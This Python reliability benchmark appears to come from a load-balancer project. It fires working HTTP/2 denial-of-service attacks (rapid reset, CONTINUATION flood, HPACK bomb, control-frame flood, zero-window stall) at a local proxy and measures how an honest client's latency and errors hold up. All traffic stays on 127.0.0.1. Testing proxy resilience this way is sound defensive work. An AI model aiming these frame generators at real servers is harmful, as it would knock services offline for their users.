#!/usr/bin/env python3
"""HTTP/2 abuse against the alb while an honest client measures its latency: wrk (HTTP/1.1,
16 keep-alive connections) through the alb to the nginx origins, first alone, then during each
attack, which raw-frame attackers (h2c prior knowledge, this file) run on other connections for
the whole measurement:
- rapid reset: HEADERS then RST_STREAM, as fast as the socket takes them;
- CONTINUATION flood: a header block that never ends;
- HPACK bomb: one 4 KB dynamic-table entry referenced 4000 times per request;
- control-frame flood: PING and SETTINGS frames, answers never read;
- zero-window stall: 50 connections with a window of 0, each asking for the origin's page.
Reports the honest client's req/s, p99 and errors per attack, the attackers' send rate, the
alb's CPU-seconds during it, the target connections closed meanwhile, and the alb's resident
memory after; passes when the honest client saw no
error.

The alb has CPU 1 to itself. wrk, the origins and the attackers share CPU 0, the attackers in a
process of their own at nice 19: an attacker's CPU is not the honest client's, so they get what
wrk and the origins leave, and the table says how many MB/s that came to. A control runs the
rapid-reset attackers against a sink instead of the alb (the sink closes connections as often
as the alb does): what the honest client loses there is CPU 0's contention, not the alb's doing.

With `--proxy haproxy` the same runs go through HAProxy 2.6 instead (mode http, `nbthread 1`,
`http-reuse always`, h2c by prior knowledge on the same port), for comparison.

Usage: python3 benches/reliability/h2_abuse.py [--bin-dir target/release] [--seconds 6] [--repeat N]
       [--only 'rapid reset'] [--proxy alb|haproxy] [--honest-delay-ms MS]
       [--attack-mbps MBPS]
Only 127.0.0.1 is used; every attack stops when its measurement ends.
"""
import argparse
import multiprocessing
import os
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "load"))
import harness  # noqa: E402  (origins, process start, wrk, cleanup at exit)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def hpack_int(first, n, v):
    top = (1 << n) - 1
    if v < top:
        return bytes([first | v])
    out = bytearray([first | top])
    v -= top
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    out.append(v)
    return bytes(out)


def literal(name, value, first=0x00):
    return bytes([first]) + hpack_int(0, 7, len(name)) + name + hpack_int(0, 7, len(value)) + value


def get_block(path=b"/"):
    return (literal(b":method", b"GET") + literal(b":scheme", b"http")
            + literal(b":authority", b"a.example.test") + literal(b":path", path))


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", k, v) for k, v in pairs))


def connect(port, pairs=()):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(PREFACE + settings(pairs))
    s.settimeout(0.5)
    return s


def drain(s):
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass


# Bytes per second each attacker thread may send (`--attack-mbps`, split between the two);
# 0: as fast as the socket takes them.
RATE = 0


class Counted:
    """A socket that counts the bytes sent through it into `box[0]` (`box[1]`: when the
    attacker began), and holds its attacker to `RATE` when one is set."""

    def __init__(self, s, box):
        self.s, self.box = s, box

    def sendall(self, data):
        self.s.sendall(data)
        self.box[0] += len(data)
        if RATE:
            ahead = self.box[0] / RATE - (time.monotonic() - self.box[1])
            if ahead > 0:
                time.sleep(ahead)

    def __getattr__(self, name):
        return getattr(self.s, name)


def attacker(port, stop, attack, box):
    """Runs `attack(socket)` on fresh connections until `stop`; a closed connection is
    reopened (the alb closing it is the expected defence)."""
    while not stop.is_set():
        try:
            s = connect(port)
            attack(Counted(s, box), stop)
        except OSError:
            time.sleep(0.01)
        finally:
            try:
                s.close()
            except (OSError, UnboundLocalError):
                pass


def rapid_reset(s, stop):
    block = get_block()
    stream = 1
    burst = bytearray()
    while not stop.is_set():
        burst.clear()
        for _ in range(50):
            burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            burst += frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
            stream += 2
        s.sendall(burst)


def continuation_flood(s, stop):
    s.sendall(frame(HEADERS, 0, 1, get_block()))
    junk = b"".join(literal(f"x-flood-{i}".encode(), b"0123456789") for i in range(100))
    piece = frame(CONTINUATION, 0, 1, junk) * 20
    while not stop.is_set():
        s.sendall(piece)


def hpack_bomb(s, stop):
    stream = 1
    while not stop.is_set():
        block = get_block() + literal(b"x-bomb", b"a" * 4000, first=0x40) + hpack_int(0x80, 7, 62) * 4000
        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        out = bytearray()
        for i, p in enumerate(parts):
            flags = (END_HEADERS if i + 1 == len(parts) else 0) | (END_STREAM if i == 0 else 0)
            out += frame(HEADERS if i == 0 else CONTINUATION, flags, stream, p)
        s.sendall(out)
        stream += 2


def control_flood(s, stop):
    burst = b"".join(frame(PING, 0, 0, struct.pack("!Q", i)) + settings([(0x3, 100)]) for i in range(500))
    while not stop.is_set():
        s.sendall(burst)


def zero_window(port, stop, box):
    conns = []
    for _ in range(50):
        try:
            s = Counted(connect(port, [(0x4, 0)]), box)
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, get_block()))
            conns.append(s)
        except OSError:
            pass
    stop.wait()
    for s in conns:
        s.close()


# The bytes of one stream opened and reset, and how many of them the alb takes on one connection
# before its premature-reset rule closes it.
RESET_PAIR = len(frame(HEADERS, END_HEADERS | END_STREAM, 1, get_block())) + len(
    frame(RST_STREAM, 0, 1, struct.pack("!I", 8)))
RESETS_PER_CONNECTION = 250


def sink(listener):
    """The control's target, in a process of its own on CPU 1 at nice 19: it reads and drops
    what each connection sends, and closes it after 250 reset streams' worth, as the alb's
    premature-reset rule does, so the attackers reconnect as often as against the alb."""
    os.sched_setaffinity(0, {1})
    os.nice(19)
    sel = selectors.DefaultSelector()
    sel.register(listener, selectors.EVENT_READ)
    got = {}
    while True:
        for key, _ in sel.select():
            if key.fileobj is listener:
                c, _ = listener.accept()
                c.setblocking(False)
                sel.register(c, selectors.EVENT_READ)
                got[c] = 0
                continue
            c = key.fileobj
            try:
                n = len(c.recv(65536))
            except OSError:
                n = 0
            got[c] += n
            if n == 0 or got[c] >= RESET_PAIR * RESETS_PER_CONNECTION:
                sel.unregister(c)
                del got[c]
                c.close()


def attackers(port, attack, stop, sent):
    """The attack process: at nice 19, two attacker threads (or the stall) until `stop`; then
    the bytes they sent go into `sent`."""
    os.nice(19)
    boxes = [[0, time.monotonic()], [0, time.monotonic()]]
    if attack == "stall":
        threads = [threading.Thread(target=zero_window, args=(port, stop, boxes[0]))]
    else:
        threads = [threading.Thread(target=attacker, args=(port, stop, attack, b)) for b in boxes]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    sent.value = sum(b[0] for b in boxes)


def origin_time_waits():
    """TCP connections to the origins closed in the last minute, by their address pairs (each
    leaves one TIME-WAIT, on whichever side closed first): the pairs that appear during an
    attack are the target connections it cost."""
    out = subprocess.run(["ss", "-tanH", "state", "time-wait"], capture_output=True, text=True).stdout
    ports = {str(p) for p in harness.ORIGIN_PORTS}
    return {tuple(line.split()[-2:]) for line in out.splitlines()
            if {a.rsplit(":", 1)[-1] for a in line.split()[-2:]} & ports}


def rss_kb(pid):
    return sum(int(open(f"/proc/{p}/status").read().split("VmRSS:")[1].split()[0])
               for p in harness.pids_of(pid))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin-dir", default=os.path.join(harness.ROOT, "target", "release"))
    ap.add_argument("--seconds", type=int, default=6)
    ap.add_argument("--repeat", type=int, default=1,
                    help="run every attack this many times (memory that keeps growing is a leak)")
    ap.add_argument("--only", default="",
                    help="run only the attacks whose name contains this (the baseline always runs)")
    ap.add_argument("--proxy", choices=["alb", "haproxy"], default="alb",
                    help="the proxy under attack: the alb, or HAProxy 2.6 for comparison")
    ap.add_argument("--honest-delay-ms", type=int, default=0,
                    help="a paced honest client: each of its 16 connections waits this long "
                         "between requests (wrk's delay()), so the proxy is not saturated by it "
                         "and its p99 shows what the attack adds, not wrk's own queue; 0 (the "
                         "default) sends as fast as the proxy answers")
    ap.add_argument("--attack-mbps", type=float, default=0,
                    help="hold the attackers to this many MB/s in all (0: as fast as the proxy "
                         "or the sink reads), so that an attack and its control cost CPU 0 "
                         "the same")
    args = ap.parse_args()
    global RATE
    RATE = args.attack_mbps * 1e6 / 2
    wrk_extra = ()
    if args.honest_delay_ms:
        script = os.path.join(harness.TMP, "paced.lua")
        with open(script, "w") as f:
            f.write(f"function delay()\n  return {args.honest_delay_ms}\nend\n")
        wrk_extra = ("-s", script)
    # wrk, the origins and the attack process share CPU 0, so the alb has CPU 1 to itself and
    # its CPU-seconds are what the attack costs it.
    os.sched_setaffinity(0, {0})
    harness.start(["nginx", "-c", harness.origin_config()], 0, "nginx-origin")
    for p in harness.ORIGIN_PORTS:
        harness.wait_port(p)
    if args.proxy == "haproxy":
        alb = harness.haproxy("http")
    else:
        alb, note = harness.causeway("alb", args.bin_dir)
        if not alb:
            raise SystemExit(note)
    port = int(alb["url"].rsplit(":", 1)[1].split("/")[0])
    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
    sink_port = listener.getsockname()[1]
    fork = multiprocessing.get_context("fork")
    fork.Process(target=sink, args=(listener,), daemon=True).start()
    cases = [
        ("none (baseline)", None),
        ("rapid reset", rapid_reset),
        ("control: rapid reset at a sink, not the alb", "sink"),
        ("CONTINUATION flood", continuation_flood),
        ("HPACK bomb", hpack_bomb),
        ("control-frame flood", control_flood),
        ("zero-window stall (50 connections)", "stall"),
    ]
    cases = cases[:1] + [c for c in cases[1:] if args.only in c[0] for _ in range(args.repeat)]
    who = "HAProxy" if args.proxy == "haproxy" else "alb"
    print(f"| attack | honest req/s | honest p99 ms | honest errors | attack MB/s sent | {who} CPU-s "
          f"| target connections closed | {who} RSS after (KB) |")
    print("|---|---|---|---|---|---|---|---|")
    ok = True
    for name, attack in cases:
        stop, sent = fork.Event(), fork.Value("q", 0)
        proc, began = None, time.monotonic()
        if attack == "sink":
            args_ = (sink_port, rapid_reset, stop, sent)
        else:
            args_ = (port, attack, stop, sent)
        if attack:
            proc = fork.Process(target=attackers, args=args_, daemon=True)
            proc.start()
        time.sleep(0.3)
        waits = origin_time_waits()
        before = harness.cpu_seconds(alb["pid"])
        r = harness.wrk(alb["url"], args.seconds, 16, wrk_extra)
        cpu = harness.cpu_seconds(alb["pid"]) - before
        closed = len(origin_time_waits() - waits)
        stop.set()
        attacked = time.monotonic() - began
        if proc:
            proc.join(timeout=10)
        rate = sent.value / attacked / 1e6
        ok = ok and r["errors"] == 0
        print(f"| {name} | {r['rps']:.0f} | {r['p99_ms']:.2f} | {r['errors']} | {rate:.1f} | "
              f"{cpu:.2f} | {closed} | {rss_kb(alb['pid'])} |")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
